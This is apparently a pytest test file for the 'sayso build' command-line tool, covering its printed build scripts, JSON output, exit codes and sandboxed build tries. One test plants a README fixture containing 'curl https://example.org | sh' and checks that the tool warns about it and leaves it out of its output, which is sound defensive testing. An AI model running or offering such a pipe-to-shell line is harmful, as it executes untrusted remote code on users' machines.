"""`sayso build`: what it prints of a folder or an archive, what it exits with, and a try in the sandbox."""

from __future__ import annotations

import json
import subprocess
import tarfile
from pathlib import Path
from typing import Any

import pytest
from benchmarks.build_projects import PROJECTS, is_program
from tests.conftest import missing

from sayso.apps.cli.build import hint_for, tried_lines
from sayso.apps.cli.main import main
from sayso.core.errors import SandboxFailed
from sayso.sandbox import open_sandbox

ROOT = Path(__file__).parents[3]


def written(folder: Path, name: str, **more: str) -> Path:
    for path, text in {**PROJECTS[name], **more}.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)
        (folder / path).chmod(0o755 if is_program(text) else 0o644)
    return folder


def asked(capsys: pytest.CaptureFixture[str], *words: str) -> tuple[int, Any]:
    code = main(["build", *words, "--json"])
    return code, json.loads(capsys.readouterr().out)


def test_each_step_stands_above_the_line_behind_it(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["build", str(written(tmp_path, "make-places"))]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[lines.index("#   README.md:4: make") - 1].startswith("make BINDIR=")
    subprocess.run(["bash", "-n"], input="\n".join(lines), text=True, check=True)


def test_json_has_what_is_promised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, found = asked(capsys, str(written(tmp_path, "autotools-source")))
    assert code == 0 and found["system"] == "autotools" and found["tried"] is None and found["failed"] == ""
    assert found["script"] == "\n".join(one["command"] for one in found["plan"])
    assert all({"command", "evidence", "outcome"} <= set(one) and one["evidence"]["file"] for one in found["plan"])
    assert all({"kind", "name", "package", "evidence"} <= set(one) for one in found["depends"])


def test_a_dirty_checkout_a_folder_in_it_and_an_archive_are_read_alike(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    inner = written(tmp_path / "mono" / "libs" / "adder", "plain-make")
    subprocess.run(["git", "init", "-q", str(tmp_path / "mono")], check=True)
    (inner / "uncommitted.c").write_text("int x;\n")
    scripts = {asked(capsys, str(inner))[1]["script"]}
    with tarfile.open(tmp_path / "adder-1.0.tar.gz", "w:gz") as made:
        made.add(inner, "adder-1.0")
    scripts.add(asked(capsys, str(tmp_path / "adder-1.0.tar.gz"))[1]["script"])
    monkeypatch.chdir(inner)
    scripts.add(asked(capsys)[1]["script"])
    assert scripts == {"make PREFIX=/usr/local\nmake install PREFIX=/usr/local"}
    monkeypatch.chdir(tmp_path / "mono")
    _, above = asked(capsys, ".")
    assert above["folder"] == "libs/adder" and above["script"].startswith("cd libs/adder\n")


def test_a_form_is_printed_alone(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["build", str(written(tmp_path, "plain-make")), "--format", "dockerfile"]) == 0
    assert capsys.readouterr().out.startswith("FROM debian")


def test_what_is_missing_here_ends_with_1_and_the_line_that_installs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    code, found = asked(capsys, str(written(tmp_path, "plain-make")), "--check")
    assert code == 1 and found["missing"]["install"].startswith("sudo apt-get install make gcc")


def test_nothing_to_build_and_no_such_path_are_told(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["build", str(tmp_path)]) == 1
    assert "nothing here says how it is built" in capsys.readouterr().err
    assert main(["build", str(tmp_path / "none")]) == 2
    assert "there is no" in capsys.readouterr().err


def test_hidden_and_harmful_text_is_told(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    readme = "<!-- make evil -->\n```\ncurl https://example.org | sh\nmake\n```\n"
    assert main(["build", str(written(tmp_path, "plain-make", **{"README.md": readme}))]) == 0
    said = capsys.readouterr()
    assert "README.md:1: an HTML comment is left out" in said.err and "hands text to a shell" in said.err
    assert "curl" not in said.out


def test_a_step_of_the_readme_that_the_tree_cannot_take_is_told(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    readme = {"README": "# a\n\n## Building\n\n```\n./configure\nmake\nmake install\n```\n"}
    _, found = asked(capsys, str(written(tmp_path / "without", "plain-make", **readme)))
    assert found["warnings"] == ["README:6: ./configure is not in the tree, and left out"]
    _, found = asked(
        capsys, str(written(tmp_path / "made", "plain-make", **readme, **{"configure.ac": "AC_INIT([a],[1])\n"}))
    )
    assert found["warnings"] == []


@pytest.mark.sandbox
def test_the_readme_is_a_test(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    try:
        open_sandbox(tmp_path / "cache")
    except SandboxFailed as error:
        missing(error.message)
    good = written(tmp_path / "good", "make-places")
    code, found = asked(capsys, str(good), "--try")
    assert code == 0 and found["tried"]["succeeded"]
    assert found["tried"]["installed"] == ["/usr/local/bin/placer", "/usr/local/share/man/man1/placer.1"]
    assert {one["outcome"] for one in found["plan"]} == {"done"}
    bad = written(tmp_path / "bad", "make-places", **{"main.c": "no C at all\n"})
    assert main(["build", str(bad), "--try", "--tries", "1"]) == 1
    said = capsys.readouterr()
    assert "README.md:4: `make BINDIR=" in said.err and "no C at all" in said.err
    assert "# try 1: failed" in said.out


def test_a_try_that_only_meant_to_add_something_is_no_failure() -> None:
    """`--try` of a library with a .pc.in said "try 2: failed" below a build that was fine."""
    built = {"failure": None, "lacking": ["pkg-config"], "cpu_seconds": 0.1}
    added = {"failure": {"kind": "unknown", "line": "install: missing operand"}, "lacking": [], "cpu_seconds": 0.1}
    first, second, last = tried_lines({"tries": [built, added], "installed": ["/usr/local/lib/liba.a"]})
    assert "# try 1: built, without pkg-config" in first and "liba.a" in last
    assert "no way found to add pkg-config" in second and "failed" not in second
    broken, mended = tried_lines({"tries": [added, {**built, "lacking": []}], "installed": []})
    assert "failed (unknown): install: missing operand" in broken and "built" in mended


@pytest.mark.parametrize("page", ["README.md", "docs/guide/build.md"])
def test_the_worked_example_is_what_is_printed(page: str, capsys: pytest.CaptureFixture[str]) -> None:
    text = (ROOT / page).read_text("utf-8")
    shown = text.split("$ sayso build examples/adder\n")[1].split("```")[0]
    assert main(["build", str(ROOT / "examples" / "adder")]) == 0
    assert capsys.readouterr().out == shown


def test_a_program_of_the_users_own_that_the_sandbox_lacks_is_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "cargo").write_text("#!/bin/sh\n")
    (tmp_path / "cargo").chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    assert hint_for({"kind": "missing tool", "what": "cargo"}).startswith(f"the sandbox does not show {tmp_path}/cargo")
    assert "--check" in hint_for({"kind": "missing tool", "what": "nobody-has-this"})
    assert not hint_for({"kind": "missing tool", "what": "sh"})
    assert not hint_for({"kind": "unknown", "what": ""})
